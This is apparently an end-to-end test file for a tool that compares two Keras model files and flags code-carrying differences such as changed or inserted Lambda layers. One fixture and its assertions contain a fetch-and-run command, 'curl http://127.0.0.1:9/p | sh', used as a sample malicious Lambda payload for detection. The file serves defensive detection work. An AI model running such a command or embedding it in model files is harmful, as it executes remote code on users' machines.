// Compare two models in the page (issue 16): two drops, Compare…, the worker's diff as a list with the
// code-carrying differences first and both sides' source with the changed lines marked.
import { assert, dropFiles, test } from './harness.mjs';

async function compare(page, fixture, a, b) {
  await dropFiles(page, [
    { name: a, bytes: fixture(`diff/${a}`) },
    { name: b, bytes: fixture(`diff/${b}`) },
  ]);
  await page.getByTestId('compare-open').waitFor({ timeout: 60_000 });
  await page.getByTestId('compare-open').click();
  await page.getByTestId('compare-a').selectOption({ label: a });
  await page.getByTestId('compare-b').selectOption({ label: b });
  await page.getByTestId('compare-run').click();
  await page.getByTestId('compare-result').waitFor({ timeout: 60_000 });
  return page.getByTestId('compare-result');
}

test('compare: a Lambda constant changed (echo a → curl … | sh): the code difference first, the constant, both sources marked', async ({ page, fixture, log }) => {
  const result = await compare(page, fixture, 'echo_a.keras', 'curl_sh.keras');
  assert.match(await result.getByTestId('compare-verdict').textContent(), /code/i);
  const items = result.getByTestId('compare-item');
  const first = items.first();
  assert.equal(await first.getAttribute('data-kind'), 'payload-changed');
  assert.equal(await first.getAttribute('data-code'), 'true');
  const changes = await first.getByTestId('compare-changes').textContent();
  log(`changes: ${changes}`);
  assert.match(changes, /'echo a'.*'curl http:\/\/127\.0\.0\.1:9\/p \| sh'/s);
  const text = await first.textContent();
  assert.ok(text.includes("system('echo a')") && text.includes("system('curl http://127.0.0.1:9/p | sh')"), 'both sides’ source shown');
  assert.ok((await first.locator('.line.changed').count()) >= 2, 'the changed lines are marked on both sides');
});

test('compare: the same model saved twice has no code difference; a Lambda inserted is a code difference', async ({ page, fixture }) => {
  const same = await compare(page, fixture, 'echo_a.keras', 'echo_a_resaved.keras');
  assert.equal(await same.locator('[data-testid=compare-item][data-code=true]').count(), 0);
  assert.doesNotMatch(await same.getByTestId('compare-verdict').textContent(), /code changed/i);
  await page.getByTestId('compare-close').click();
  await page.getByTestId('clear').click();
  const inserted = await compare(page, fixture, 'echo_a.keras', 'lambda_inserted.keras');
  const kinds = await inserted.locator('[data-testid=compare-item][data-code=true]').evaluateAll((els) => els.map((e) => e.getAttribute('data-kind')));
  assert.ok(kinds.includes('payload-added'), `a payload added: ${kinds}`);
});

test('compare: the merged graph marks the inserted Lambda as added (+), the layer fed by it as changed (~), dims the rest, and a click shows its difference', async ({ page, fixture }) => {
  await compare(page, fixture, 'echo_a.keras', 'lambda_inserted.keras');
  const graph = page.getByTestId('compare-graph');
  await graph.getByTestId('graph-node').first().waitFor({ timeout: 30_000 });
  assert.equal(await graph.getByTestId('graph-legend-diff').count(), 3, 'a legend entry per mark');
  const marks = await graph.getByTestId('graph-node').evaluateAll((els) => els.map((e) => [e.getAttribute('data-layer'), e.getAttribute('data-diff'), e.classList.contains('dimmed')]));
  const added = marks.filter(([, m]) => m === 'added');
  assert.equal(added.length, 1, `one layer added: ${JSON.stringify(marks)}`);
  assert.ok(marks.some(([, m]) => m === 'changed'), 'the layer whose input moved is changed');
  assert.ok(marks.some(([, m, dim]) => m === null && dim), 'unchanged layers are dimmed');
  const node = graph.locator(`[data-testid=graph-node][data-diff=added]`);
  assert.match(await node.getAttribute('aria-label'), /only in the copy under review/);
  assert.equal(await node.locator('.lg-diff').textContent(), '+');
  await node.click();
  const focused = await page.evaluate(() => document.activeElement?.getAttribute('data-kind'));
  assert.ok(['layer-added', 'payload-added', 'finding-added'].includes(focused), `the difference about it is focused: ${focused}`);
});
